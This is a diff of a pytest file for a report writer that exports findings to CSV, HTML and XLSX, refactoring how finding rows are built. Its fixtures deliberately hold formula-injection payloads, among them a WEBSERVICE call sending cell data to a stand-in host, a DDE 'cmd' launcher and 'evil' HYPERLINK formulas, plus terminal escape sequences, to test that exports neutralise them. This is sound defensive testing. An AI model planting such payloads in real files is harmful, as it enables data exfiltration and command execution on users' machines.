@@ -17,6 +17,7 @@ import pytest
 
 from nianbao.batch.reports import Totals, write_csv, write_html, write_xlsx
 from nianbao.batch.state import FileResult, FindingRow
+from nianbao.model import Finding, Provenance
 
 FORMULAS = ["=WEBSERVICE(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1,2)", "\t=1+1", "\r=1+1", "＝1+1", " =HYPERLINK(\"http://x\")"]
@@ -24,11 +25,12 @@ ESCAPES = "ok\x1b[2J\x1b[8mhidden\x1b]0;title\x07\x9b31m\x85end"
 
 
 def hostile_result() -> FileResult:
-    findings = [FindingRow("schema.required", "error", text, text, pointer="/name",
-                           evidence=text, sentence=text, page=1, params={"value": -3})
+    findings = [FindingRow(Finding("schema.required", "error", text, text, pointer="/name",
+                                   evidence=text, params={"value": -3},
+                                   provenance=Provenance(page=1)), sentence=text)
                 for text in FORMULAS]
-    findings.append(FindingRow("text.unit", "warning", ESCAPES, ESCAPES, evidence=ESCAPES,
-                               sentence="#N/A", params={"n": 1.5}))
+    findings.append(FindingRow(Finding("text.unit", "warning", ESCAPES, ESCAPES, evidence=ESCAPES,
+                                       params={"n": 1.5}), sentence="#N/A"))
     return FileResult(path="inbox/=cmd\x1b[31m.txt", sha256="0" * 64, status="ok", format="txt",
                       kind="annual_report", org="=HYPERLINK(\"http://evil\",\"ok\")",
                       credit_code="-1", region="@x", year=2025, findings=findings)
@@ -119,7 +121,7 @@ def test_an_over_long_cell_is_cut_to_what_a_spreadsheet_holds(tmp_path: Path) ->
     from openpyxl import load_workbook
 
     result = FileResult(path="a.txt", sha256="1" * 64, status="ok", findings=[
-        FindingRow("text.unit", "warning", "m", "m", evidence="长" * 40_000)])
+        FindingRow(Finding("text.unit", "warning", "m", "m", evidence="长" * 40_000))])
     path = tmp_path / "findings.xlsx"
     write_xlsx(iter([result]), totals_of(result), META, path)
     values = [c.value for row in load_workbook(path)["全部问题 Findings"].iter_rows()
